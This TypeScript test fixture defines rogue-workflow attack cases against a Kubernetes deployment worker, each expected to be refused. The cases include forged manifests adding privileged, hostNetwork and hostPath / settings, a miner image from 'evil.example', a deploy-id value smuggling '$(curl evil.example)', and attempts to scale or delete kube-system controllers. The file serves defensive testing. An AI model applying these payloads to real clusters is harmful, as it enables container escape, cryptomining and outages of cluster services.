// The rogue-workflow attacks of the hostile tier: data, read by one runner
// (hostile.test.ts). A rogue workflow (test/fixtures/rogue/workflows.ts) on a
// task queue of its own schedules one of deployflow's activities (names from
// activities/index.ts) on `deploy-<env>` with crafted arguments. The real worker
// must refuse each naming the rule, write nothing, and every workflow must end.
import type { ReplicationControllerManifest } from '../../domain/render.js';
import { ANNOTATIONS } from '../../domain/names.js';

export interface RogueContext {
  environment: string;
  /** A namespace the worker's policy allows, holding objects deployflow does not own. */
  victim: string;
  /** A namespace outside the worker's policy. */
  outside: string;
  /** An RC the admin created in the allowed namespace (not deployflow's). */
  foreignRc: string;
  /** An RC the admin created in kube-system, like coredns. */
  systemRc: string;
  /** A pod in the victim namespace labelled `deployment=<ghostHash>`, and the made-up RC name ending in that hash. */
  ghostPod: string;
  ghostRc: string;
  /** A manifest exactly as deployflow renders it for a valid spec, in `namespace`. */
  manifest(namespace: string): ReplicationControllerManifest;
  /** A URL nobody configured; what it receives is counted. */
  craftedUrl: string;
}

export interface RogueCase {
  id: string;
  attack: string;
  rule: string;
  activity: string;
  args(c: RogueContext): unknown[];
  /** The refusal must match every one of these. */
  expect: RegExp[];
  policy?: string;
  /** The activity may complete (nothing to do), as long as it wrote nothing and `check` holds. */
  mayComplete?: boolean;
  /**
   * The app whose lock the rogue workflow claims: it runs disguised as a `deploy`
   * workflow with id deploy/<env>/<namespace>/<app> (default: awesome-api in the
   * victim namespace). `none`: it runs undisguised, as workflow type `rogue`.
   */
  lock?(c: RogueContext): { namespace: string; app: string } | 'none';
  /** What else must hold afterwards, e.g. the pod is still there. */
  check?: 'ghost-pod-survives' | 'crafted-url-untouched';
}

/** A rendered manifest as plain data, for editing by hand. */
interface Loose {
  metadata: { annotations: Record<string, string> };
  spec: { selector: Record<string, string>; template: { spec: Record<string, unknown> & { containers: Array<Record<string, unknown>>; volumes: unknown[] } } };
}

/** The manifest deployflow would render for a valid spec in the victim namespace, edited by the attacker. */
function forged(c: RogueContext, edit: (m: Loose) => void): unknown {
  const m = structuredClone(c.manifest(c.victim)) as unknown as Loose;
  edit(m);
  return m;
}

const NOT_OURS = /deployflow|managed|own/i;
const NAMESPACE = /namespace: /;

/** A step whose "new side" is empty and whose "old side" is `victimRc`: it would shrink the victim first thing. */
function stepOf(namespace: string, app: string, victimRc: string) {
  return {
    namespace, app, limits: { maxSurge: 0, maxUnavailable: 1 }, minReadySeconds: 0, progressDeadlineSeconds: 3, detectTampering: false,
    to: { label: `${app}-new`, members: [], available: 0 },
    from: { label: victimRc, members: [{ name: victimRc, revision: 1, replicas: 1, target: 1 }], available: 1 },
  };
}

export const ROGUE_CASES: RogueCase[] = [
  { id: 'create-in-kube-system', attack: 'create a deployflow-rendered RC in kube-system', rule: 'allowed namespaces', lock: () => ({ namespace: 'kube-system', app: 'awesome-api' }), activity: 'createReplicationController',
    args: (c) => [{ manifest: c.manifest('kube-system') }], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'create-forged-host-privileged', attack: 'create an RC whose template adds hostNetwork, hostPID and privileged', rule: 'manifest is what checkDeploy renders',
    activity: 'createReplicationController', expect: [/hostNetwork|hostPID|privileged|manifest|render/],
    args: (c) => [{ manifest: forged(c, (m) => {
      Object.assign(m.spec.template.spec, { hostNetwork: true, hostPID: true });
      m.spec.template.spec.containers[0]!.securityContext = { privileged: true };
    }) }] },
  { id: 'create-image-mismatch', attack: 'create an RC whose image differs from its annotations', rule: 'manifest is what checkDeploy renders',
    activity: 'createReplicationController', expect: [/image|manifest|render/],
    args: (c) => [{ manifest: forged(c, (m) => (m.spec.template.spec.containers[0]!.image = 'evil.example/miner:latest')) }] },
  { id: 'create-forged-hostpath', attack: 'create an RC whose template mounts hostPath /', rule: 'manifest is what checkDeploy renders',
    activity: 'createReplicationController', expect: [/hostPath|manifest|render/],
    args: (c) => [{ manifest: forged(c, (m) => m.spec.template.spec.volumes.push({ name: 'host', hostPath: { path: '/' } })) }] },
  { id: 'create-broad-selector', attack: "create an RC selecting another app's pods (name=<foreign>)", rule: 'manifest is what checkDeploy renders',
    activity: 'createReplicationController', expect: [/selector|manifest|render/],
    args: (c) => [{ manifest: forged(c, (m) => (m.spec.selector = { name: c.foreignRc })) }] },
  { id: 'create-deploy-id-not-a-run-id', attack: 'create an RC whose deploy-id annotation is not a run id', rule: 'manifest is what checkDeploy renders',
    activity: 'createReplicationController', expect: [/deploy-id/],
    args: (c) => [{ manifest: forged(c, (m) => (m.metadata.annotations[ANNOTATIONS.deployId] = '$(curl evil.example)')) }] },
  { id: 'scale-system-rc', attack: 'scale a coredns-like RC in kube-system to 0', rule: 'allowed namespaces', lock: (c) => ({ namespace: 'kube-system', app: c.systemRc.split('-')[0]! }), activity: 'scaleReplicationController',
    args: (c) => [{ namespace: 'kube-system', name: c.systemRc, replicas: 0 }], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'scale-foreign-rc', attack: 'scale an RC deployflow does not own to 5', rule: 'only deployflow-owned RCs', lock: (c) => ({ namespace: c.victim, app: 'billing' }), activity: 'scaleReplicationController',
    args: (c) => [{ namespace: c.victim, name: c.foreignRc, replicas: 5 }], expect: [NOT_OURS, /billing-api/] },
  { id: 'delete-foreign-rc', attack: 'delete an RC deployflow does not own', rule: 'only deployflow-owned RCs', lock: (c) => ({ namespace: c.victim, app: 'billing' }), activity: 'deleteReplicationController',
    args: (c) => [{ namespace: c.victim, name: c.foreignRc }], expect: [NOT_OURS, /billing-api/] },
  { id: 'delete-system-rc', attack: 'delete a coredns-like RC in kube-system', rule: 'allowed namespaces', lock: (c) => ({ namespace: 'kube-system', app: c.systemRc.split('-')[0]! }), activity: 'deleteReplicationController',
    args: (c) => [{ namespace: 'kube-system', name: c.systemRc }], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'scale-ghost-to-0', attack: 'scale a made-up RC to 0 (deleted pods by deployment=<suffix>)', rule: 'pods only by ownerReference',
    lock: (c) => ({ namespace: c.victim, app: 'ghost' }), activity: 'scaleReplicationController', args: (c) => [{ namespace: c.victim, name: c.ghostRc, replicas: 0 }], expect: [/ghost/], mayComplete: true,
    check: 'ghost-pod-survives' },
  { id: 'delete-ghost', attack: 'delete a made-up RC (deleted pods by deployment=<suffix>)', rule: 'pods only by ownerReference',
    lock: (c) => ({ namespace: c.victim, app: 'ghost' }), activity: 'deleteReplicationController', args: (c) => [{ namespace: c.victim, name: c.ghostRc }], expect: [/ghost/], mayComplete: true,
    check: 'ghost-pod-survives' },
  { id: 'secret-in-kube-system', attack: 'ensureEnvironmentSecret in kube-system', rule: 'allowed namespaces', lock: () => ({ namespace: 'kube-system', app: 'awesome-api' }), activity: 'ensureEnvironmentSecret',
    args: (c) => [{ namespace: 'kube-system', environment: c.environment }], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'secret-outside-policy', attack: "ensureEnvironmentSecret in another team's namespace", rule: 'allowed namespaces', lock: (c) => ({ namespace: c.outside, app: 'awesome-api' }), activity: 'ensureEnvironmentSecret',
    args: (c) => [{ namespace: c.outside, environment: c.environment }], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'secret-other-environment', attack: 'ensureEnvironmentSecret for another environment', rule: 'environment matches the worker',
    activity: 'ensureEnvironmentSecret', args: (c) => [{ namespace: c.victim, environment: 'production' }], expect: [/production/] },
  { id: 'list-kube-system', attack: 'list the RCs of kube-system', rule: 'allowed namespaces', lock: () => ({ namespace: 'kube-system', app: 'awesome-api' }), activity: 'listReplicationControllers',
    args: (c) => [{ namespace: 'kube-system', name: c.systemRc }], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'list-outside-policy', attack: "list the RCs of another team's namespace", rule: 'allowed namespaces', lock: (c) => ({ namespace: c.outside, app: 'billing' }), activity: 'listReplicationControllers',
    args: (c) => [{ namespace: c.outside, name: 'billing-api' }], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'wait-kube-system', attack: 'waitForPods on the pods of an RC in kube-system', rule: 'allowed namespaces', lock: (c) => ({ namespace: 'kube-system', app: c.systemRc.split('-')[0]! }),
    activity: 'waitForPods', args: (c) => [{ namespace: 'kube-system', target: c.systemRc, app: c.systemRc.split('-')[0]!, rcs: [c.systemRc], minAvailable: 0,
      maxPods: 1000, minReadySeconds: 0, progressDeadlineSeconds: 3 }],
    expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'wait-kube-system-selector', attack: 'waitForPods on kube-system by label selector (reads its pods)', rule: 'allowed namespaces',
    lock: () => ({ namespace: 'kube-system', app: 'awesome-api' }), activity: 'waitForPods',
    args: () => [{ namespace: 'kube-system', target: 'kube-dns', labelSelector: 'k8s-app=kube-dns', minAvailable: 0, maxPods: 1000, minReadySeconds: 0,
      progressDeadlineSeconds: 3 }],
    expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'create-undisguised', attack: 'create a valid rendered RC from a workflow that is not a deploy (no lock)', rule: 'writes only from the app\'s deploy workflow',
    lock: () => 'none', activity: 'createReplicationController', args: (c) => [{ manifest: c.manifest(c.victim) }], expect: [/deploy workflow|lock/] },
  { id: 'scale-undisguised', attack: 'scale an RC of the app from a workflow that is not a deploy (no lock)', rule: 'writes only from the app\'s deploy workflow',
    lock: () => 'none', activity: 'scaleReplicationController', args: (c) => [{ namespace: c.victim, name: c.foreignRc, replicas: 0 }],
    expect: [/deploy workflow|lock/] },
  { id: 'step-system-rc', attack: 'rollStep: shrink a coredns-like RC in kube-system to 0 as the "old side"', rule: 'allowed namespaces', lock: (c) => ({ namespace: 'kube-system', app: c.systemRc.split('-')[0]! }),
    activity: 'rollStep', args: (c) => [stepOf('kube-system', c.systemRc.split('-')[0]!, c.systemRc)], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'step-checked-system-rc', attack: 'rollStep with its plan check, on a coredns-like RC in kube-system as the "old side"', rule: 'allowed namespaces', lock: (c) => ({ namespace: 'kube-system', app: c.systemRc.split('-')[0]! }),
    activity: 'rollStep', args: (c) => [{ ...stepOf('kube-system', c.systemRc.split('-')[0]!, c.systemRc), checkPlan: true }], expect: [NAMESPACE], policy: 'namespaces' },
  { id: 'step-foreign-rc', attack: 'rollStep: shrink an RC deployflow does not own as the "old side"', rule: 'only deployflow-owned RCs', lock: (c) => ({ namespace: c.victim, app: 'billing' }),
    activity: 'rollStep', args: (c) => [stepOf(c.victim, 'billing', c.foreignRc)], expect: [NOT_OURS, /billing-api/] },
  { id: 'step-undisguised', attack: 'rollStep on the app from a workflow that is not a deploy (no lock)', rule: 'writes only from the app\'s deploy workflow',
    lock: () => 'none', activity: 'rollStep', args: (c) => [stepOf(c.victim, 'billing', c.foreignRc)], expect: [/deploy workflow|lock/] },
  { id: 'notify-crafted-url', attack: 'notify with a crafted webhook URL in every field', rule: 'posts only to configured webhooks', activity: 'notify',
    args: (c) => [{ event: 'succeeded', app: 'awesome-api', environment: c.environment, namespace: c.victim, image: 'x', workflowId: 'rogue',
      requestedBy: 'rogue', message: 'click here', webhooks: [c.craftedUrl], webhook: c.craftedUrl, url: c.craftedUrl, uiUrl: c.craftedUrl }],
    expect: [/webhook|notif/i], mayComplete: true, check: 'crafted-url-untouched' },
];
